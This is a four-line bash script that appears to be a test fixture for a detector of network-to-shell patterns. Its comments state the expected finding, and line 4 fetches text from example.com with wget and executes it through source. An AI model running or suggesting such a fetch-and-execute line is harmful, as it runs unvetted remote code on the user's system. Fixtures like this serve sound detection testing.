#!/bin/bash
# shows: fetched text read by source
# expect: network-to-shell at line 4
source /dev/stdin <<<"$(wget -O- http://example.com/env)"
